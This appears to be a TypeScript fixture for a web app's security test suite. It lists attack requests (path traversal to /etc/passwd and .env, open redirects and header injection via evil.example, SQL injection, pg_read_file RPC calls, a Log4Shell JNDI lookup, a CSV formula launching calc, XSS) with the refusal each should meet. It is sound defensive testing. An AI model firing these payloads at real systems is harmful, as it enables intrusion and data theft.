import { operatorFunctions } from "../../server/jobs/retention/operator-call.ts";
import type { RawRequest } from "../db/raw-request.ts";
import { sampleRows } from "../db/sample-rows.ts";

export interface Attack {
  name: string;
  request: RawRequest;
  /**
   * - `refused`: 4xx
   * - `harmless`: a page, a redirect within the site, or 4xx
   * - `stored`: stored as an ordinary lead
   */
  outcome: "refused" | "harmless" | "stored";
}

const rows = "/rest/v1/contact_submissions";
const lead = sampleRows.contact_submissions;
const json = (body: string | object, headers: string[] = []) => ({
  headers: ["content-type: application/json", ...headers],
  body: typeof body === "string" ? body : JSON.stringify(body),
});
const get = (path: string, ...headers: string[]): RawRequest => ({ method: "GET", path, headers });

const files: Attack[] = [
  "/.env",
  "/.git/config",
  "/.data/operator.json",
  "/package.json",
  "/server/commands/start.ts",
  "/node_modules/hono/package.json",
  "/dist/index.html",
  "/operator.json",
  "/files/resumes/1736500000000_cv.pdf",
  "/../../../../etc/passwd",
  "/%2e%2e/package.json",
  "/..%2f..%2f..%2fetc%2fpasswd",
  "/%252e%252e%252fetc/passwd",
  "/....//....//etc/passwd",
  "/..\\..\\package.json",
  "/%5c..%5cpackage.json",
  "/widgets/../../package.json",
  "/styles/..;/package.json",
  "/%c0%ae%c0%ae/package.json",
  "/%u002e%u002e/package.json",
  "/..%00/package.json",
  "/about%00",
  "/%",
  "/%ff%fe",
  "//etc/passwd",
  "/proc/self/environ",
  "/file:///etc/passwd",
  "/_build.json",
  "/wp-login.php",
  `/${"a".repeat(300)}`,
  `/embed/${"a".repeat(300)}.js`,
].map((path): Attack => ({
  name: `reads ${path}`,
  request: get(path),
  // `/dist/index.html` redirects to `/dist`, which does not exist.
  outcome: path === "/dist/index.html" ? "harmless" : "refused",
}));

const operatorPaths: Attack[] = [
  ...[
    "/metrics", "/debug/pprof", "/server-status", "/actuator/env", "/call/rows/page", "/alive", "/backup", "/resume/1", "/api/leads?", "/api/counts",
    "/api/revision", "/api/export?format=csv", "/enter?key=1", "/__mail", "/__dev/events", "/graphql", "/graphql/v1", "/auth/v1/token", "/auth/v1/admin/users",
    "/functions/v1/x", "/realtime/v1/websocket", "/pg/query", "/pg-meta/default/query",
  ].map((path): Attack => ({ name: `finds ${path}`, request: get(path), outcome: "refused" })),
  ...[
    ...operatorFunctions, "count_tries", "release_deliveries", "change_status", "client_address", "pg_sleep", "version", "pg_read_file", "query",
  ].flatMap((name): Attack[] => [
    { name: `calls ${name}`, request: { path: `/rest/v1/rpc/${name}`, ...json({}) }, outcome: "refused" },
    { name: `calls ${name} with arguments`, request: { path: `/rest/v1/rpc/${name}`, ...json({ wanted: { emails: ["a@b.c"] } }) }, outcome: "refused" },
  ]),
]; // oxfmt-ignore

const redirects: Attack[] = [
  "//evil.example", "/\\evil.example", "/%2f%2fevil.example", "/%5cevil.example", "//evil.example/..", "//evil.example/about/", "/about//evil.example/",
  "/about/?next=//evil.example", "/https://evil.example/", "/.evil.example/", "/about/%0d%0aLocation:%20https://evil.example", "/about%0d%0aset-cookie:a=b/", "/index.html?//evil.example",
].map((path): Attack => ({ name: `is led by ${path}`, request: get(path), outcome: "harmless" })); // oxfmt-ignore

const headers: Attack[] = [
  ...["Host: evil.example", "X-Forwarded-Host: evil.example", "X-Original-URL: /.env", "X-Rewrite-URL: /.env", "Forwarded: host=evil.example", "X-Forwarded-Proto: https", "Origin: https://evil.example",
    "Range: bytes=0-0,1-1,2-2,3-3", "Range: bytes=-1", "Accept-Encoding: gzip;q=0, *;q=0", "Accept-Encoding: br, zstd, x", "If-None-Match: *", "If-Modified-Since: x", "Expect: 200-ok",
    "Connection: upgrade, http2-settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__", "Upgrade: websocket\r\nConnection: Upgrade", "Cookie: sb-access-token=x", "Max-Forwards: 0",
  ].map((line): Attack => ({ name: `asks for a page with ${line.split("\r\n")[0]}`, request: get("/about", line), outcome: "harmless" })),
  ...["X-HTTP-Method-Override: DELETE", "X-HTTP-Method: DELETE", "X-Method-Override: PATCH", "Accept-Profile: private", "Accept: application/vnd.pgrst.plan+json", "Accept: text/csv",
    "Prefer: count=exact", "Prefer: tx=rollback", "Range: 0-10", "X-Client-Info: '; drop table x; --", "Authorization: Basic YTpi", "Authorization: Bearer", "X-Supabase-Role: service_role",
  ].map((line): Attack => ({ name: `reads rows with ${line}`, request: get(`${rows}?select=*`, line), outcome: "refused" })),
  // Hosts that no URL can have.
  ...["99999999999", "1.2.3.4.5", "xn--a"].map((host): Attack => ({ name: `posts to the host ${host}`, request: { path: "/about", headers: [`Host: ${host}`] }, outcome: "refused" })),
]; // oxfmt-ignore

const methods: Attack[] = [
  ...["TRACE", "PUT", "DELETE", "PATCH", "PROPFIND", "MKCOL", "MOVE", "SEARCH", "PURGE", "LOCK"].map(
    (method): Attack => ({
      name: `${method} of a page`,
      request: { method, path: "/about" },
      outcome: "refused",
    }),
  ),
  ...["TRACE", "PUT", "PATCH", "DELETE", "MERGE", "COPY"].map((method): Attack => ({
    name: `${method} of rows`,
    request: { method, path: `${rows}?id=not.is.null`, ...json({ email: "x@y.z" }) },
    outcome: "refused",
  })),
];

const queries: Attack[] = [
  ...["?select=email", "?select=count()", "?select=*,resume_submissions(*)", "?id=eq.00000000-0000-0000-0000-000000000000", "?or=(email.like.*@*)", "?limit=1&offset=0", "?order=created_at", "?email=fts.kim",
    "?select=email&email=eq.a'%20or%201=1--", "?select=pg_sleep(5)", "?select=*::text",
  ].map((query): Attack => ({ name: `reads rows by ${query}`, request: get(rows + query), outcome: "refused" })),
  ...["known_partners", "known_origins", "leads", "rate_limits", "salt", "deliveries", "objects", "buckets", "schema_migrations", "CONTACT_SUBMISSIONS", "contact_submissions%20", "public.contact_submissions", "%22contact_submissions%22", "pg_stat_activity", "information_schema.tables", ""]
    .map((name): Attack => ({ name: `writes into "${name}"`, request: { path: `/rest/v1/${name}`, ...json(lead) }, outcome: "refused" })),
  ...["?on_conflict=id", "?on_conflict=email", "?columns=id,status", "?columns=spam_score", "?columns=created_at,email,source", '?columns=%22email%22%22%22', "?select=*"].map(
    (query): Attack => ({ name: `writes rows by ${query}`, request: { path: rows + query, ...json(lead, query.startsWith("?on") ? ["prefer: resolution=merge-duplicates"] : query.startsWith("?select") ? ["prefer: return=representation"] : []) }, outcome: "refused" }),
  ),
]; // oxfmt-ignore

const text = JSON.stringify(lead);
const bodies: Attack[] = [
  ...Object.entries({
    "a byte order mark": `\ufeff${text.slice(0, -1)},"status":"closed"}`,
    "a comment": `/**/${text}`,
    "single quotes": text.replaceAll('"', "'"),
    "a trailing comma": text.replace(/}$/, ",}"),
    "NaN": text.replace(/}$/, ',"form_check":{"seconds":NaN}}'),
    "Infinity": text.replace(/}$/, ',"form_check":{"seconds":1e9999}}'),
    "a status of its own": text.replace(/}$/, ',"status":"closed"}'),
    "the same column twice, once forbidden": text.replace(/}$/, ',"spam_score":0}'),
    "an escaped forbidden column": text.replace(/}$/, ',"\\u0073tatus":"closed"}'),
    "an id that is none": text.replace(/}$/, ',"id":"1"}'),
    "an id of SQL": text.replace(/}$/, ',"id":"\'; drop table x; --"}'),
    "a source of its own": text.replace('"contact_form"', '"admin"'),
    "an e-mail with a header": text.replace("dana@example.com", "a@b.c\\r\\nBcc: d@e.f"),
    "an e-mail of two": text.replace("dana@example.com", "a@b.c d@e.f"),
    "a NUL": text.replace("Reyes", "\\u0000"),
    "half of a surrogate pair": text.replace("Reyes", "\\ud800"),
    "a consent without text": text.replace(/}$/, ',"consent":{}}'),
    "a consent with more": text.replace(/}$/, ',"consent":{"text":"x","admin":true}}'),
    "utm of another kind": text.replace(/}$/, ',"utm":{"utm_source":{"a":1}}}'),
    "utm with more": text.replace(/}$/, ',"utm":{"gclid":"x"}}'),
    "a name of 121 letters": text.replace("Reyes", "x".repeat(121)),
    "a boolean for a text's list": text.replace(/}$/, ',"utm":true}'),
    "UTF-16": Buffer.from(text, "utf16le").toString("latin1"),
    "an array in an array": `[[${text}]]`,
    "two documents": `${text}${text}`,
  }).map(([name, body]): Attack => ({ name: `sends ${name}`, request: { path: rows, ...json(body) }, outcome: "refused" })),
  ...["application/x-www-form-urlencoded", "text/plain", "application/xml", "text/csv", "multipart/form-data; boundary=x", "application/octet-stream", "application/json5"].map(
    (type): Attack => ({ name: `sends rows as ${type}`, request: { path: rows, headers: [`content-type: ${type}`], body: text }, outcome: "refused" }),
  ),
  ...["<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://evil.example/a}", "=cmd|'/c calc'!A1", "'; drop table contact_submissions; --", "\\u202egnp.exe"].map(
    (name): Attack => ({ name: `is called ${name}`, request: { path: rows, ...json(text.replace("Dana", name)) }, outcome: "stored" }),
  ),
]; // oxfmt-ignore

const objectPath = "/storage/v1/object";
const storage: Attack[] = [
  ...["/resumes/1736500000000_cv.pdf", "/public/resumes/1736500000000_cv.pdf", "/authenticated/resumes/1736500000000_cv.pdf", "/sign/resumes/1736500000000_cv.pdf?token=x", "/info/resumes/1736500000000_cv.pdf",
    "/info/public/resumes/x", "/resumes/..%2f..%2foperator.json", "/resumes/%2e%2e/%2e%2e/lock"].map(
    (path): Attack => ({ name: `reads the file ${path}`, request: get(objectPath + path), outcome: "refused" }),
  ),
  ...["/copy", "/move", "/sign/resumes", "/sign/resumes/1736500000000_cv.pdf", "/upload/sign/resumes/x.pdf", "/resumes", "/resumes/", "/list-v2/resumes"].map(
    (path): Attack => ({ name: `posts to ${path} of the files`, request: { path: objectPath + path, ...json({ prefix: "", sourceKey: "a", destinationKey: "b" }) }, outcome: "refused" }),
  ),
  ...["/storage/v1/bucket", "/storage/v1/bucket/resumes", "/storage/v1/bucket/resumes/empty", "/storage/v1/s3/resumes", "/storage/v1/upload/resumable", "/storage/v1/render/image/public/resumes/x", "/storage/v1/iceberg/v1/config", "/storage/v1/"].map(
    (path): Attack => ({ name: `asks storage for ${path}`, request: { path, ...json({ id: "x", name: "x", public: true }) }, outcome: "refused" }),
  ),
]; // oxfmt-ignore

export const attacks: readonly Attack[] = [
  ...files,
  ...operatorPaths,
  ...redirects,
  ...headers,
  ...methods,
  ...queries,
  ...bodies,
  ...storage,
];
